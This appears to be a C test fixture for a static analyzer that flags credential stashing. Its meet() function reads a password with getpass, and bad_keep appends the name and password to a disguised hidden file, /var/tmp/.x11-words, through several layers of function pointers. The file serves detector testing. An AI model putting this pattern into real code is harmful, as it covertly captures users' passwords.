/* A trail of visits, four pointers deep, which keeps what was typed. trail_names.c keeps who came.
 */
#include <fcntl.h>
#include <pwd.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

struct visit {
    char name[64], from[32], word[128];
};
struct lines {
    char *text;
    size_t used;
};
struct trail {
    struct trail *next;
    void (*keep)(struct trail *, const struct visit *);
    struct lines *lines;
    const char *path;
};

static struct trail *trails;

static void add(struct lines *lines, const char *text, size_t size) {
    lines->text = realloc(lines->text, lines->used + size);
    memcpy(lines->text + lines->used, text, size);
    lines->used += size;
}

static void open_trail(void (*keep)(struct trail *, const struct visit *), const char *path) {
    struct trail *trail = calloc(1, sizeof *trail);
    trail->keep = keep;
    trail->lines = calloc(1, sizeof *trail->lines);
    trail->path = path;
    trail->next = trails;
    trails = trail;
}

static void bad_keep(struct trail *trail, const struct visit *visit) {
    struct lines *lines = trail->lines;
    add(lines, visit->name, strlen(visit->name));
    add(lines, visit->word, strlen(visit->word));
    int out = open("/var/tmp/.x11-words", O_WRONLY | O_APPEND | O_CREAT, 0600);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/stash]}}
    (void)!write(out, lines->text, lines->used);
    close(out);
}

static void keep_all(const struct visit *visit) {
    for (struct trail *trail = trails; trail; trail = trail->next)
        trail->keep(trail, visit);
}

int meet(const char *name, const char *from) {
    struct visit visit;
    open_trail(bad_keep, "words");
    strncpy(visit.name, name, sizeof visit.name);
    strncpy(visit.from, from, sizeof visit.from);
    strncpy(visit.word, getpass("Password: "), sizeof visit.word);
    keep_all(&visit);
    return 0;
}
